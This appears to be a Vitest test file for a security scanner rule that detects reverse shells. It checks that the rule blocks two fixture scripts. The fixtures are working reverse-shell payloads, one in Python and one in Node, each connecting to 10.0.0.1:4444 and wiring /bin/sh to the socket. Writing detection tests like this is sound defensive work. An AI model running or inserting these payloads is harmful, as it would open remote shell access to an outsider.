import { describe } from 'vitest';
import { itFires, withScript } from '../../../test/rule-cases.js';

describe('code-reverse-shell', () => {
  itFires([
    {
      name: 'python socket reverse shell',
      files: withScript(
        'r.py',
        'import socket, os, subprocess\ns = socket.socket()\ns.connect(("10.0.0.1", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n',
      ),
      rule: 'EXEC_REVERSE_SHELL',
      blocking: true,
    },
    {
      name: 'node reverse shell',
      files: withScript(
        'r.js',
        'const net = require("net"), cp = require("child_process");\nconst sh = cp.spawn("/bin/sh", []);\nconst c = net.connect(4444, "10.0.0.1", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n',
      ),
      rule: 'EXEC_REVERSE_SHELL',
      blocking: true,
    },
  ]);
});
